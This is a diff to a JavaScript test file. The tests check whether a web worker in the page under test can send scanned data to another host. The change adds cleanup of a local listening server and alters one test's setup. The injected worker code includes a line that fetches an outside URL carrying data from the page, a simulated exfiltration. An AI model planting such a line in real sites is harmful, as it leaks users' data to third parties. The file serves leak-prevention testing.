@@ -139,11 +139,14 @@ const carriedAway = async (otherChanges) => {
     addEventListener('message', ({ data }) => {
       if (data.op === 'scan') fetch('${url}?' + data.blob.entry).catch(() => {});
     });`);
-  await withAlteredSite({ 'worker.js': tells, ...otherChanges }, async (page) => {
-    await analyse(page, sample);
-    await page.waitForTimeout(500);
-  });
-  stranger.close();
+  try {
+    await withAlteredSite({ 'worker.js': tells, ...otherChanges }, async (page) => {
+      await analyse(page, sample);
+      await page.waitForTimeout(500);
+    });
+  } finally {
+    stranger.close();  // an open one would keep the tests from ending
+  }
   return requests;
 };
 
@@ -153,7 +156,6 @@ test('what a worker would send to another host does not leave', async () => {
 
 test('that check sees a leak where workers start from a file, which the page\'s policy does not bind', async () => {
   const requests = await carriedAway({
-    'index.html': (text) => text.replace('worker-src blob:', "worker-src 'self'"),
     'workers.js': (text) => text.replace('new Worker(script)', "new Worker(new URL('worker.js', import.meta.url))"),
   });
   assert.notDeepEqual(requests, []);
